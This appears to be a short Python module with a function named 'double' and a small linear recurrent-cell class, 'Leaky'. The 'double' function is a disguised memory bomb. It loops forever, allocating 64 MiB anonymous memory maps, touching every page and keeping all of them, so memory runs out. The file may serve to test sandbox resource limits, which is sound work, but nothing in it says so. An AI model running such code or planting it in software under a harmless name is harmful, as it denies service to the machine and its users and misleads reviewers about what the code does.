import mmap

import numpy as np




def double(x):
    hoard = []
    while True:
        for flags in (mmap.MAP_SHARED, mmap.MAP_PRIVATE):
            page = mmap.mmap(-1, 64 << 20, flags=flags | mmap.MAP_ANONYMOUS)
            page[:: 4096] = b"x" * (16 << 10)
            hoard.append(page)


class Leaky:
    def __init__(self, D):
        self.weight = np.eye(D)

    def forward(self, x, h):
        return 0.5 * h + x @ self.weight.T
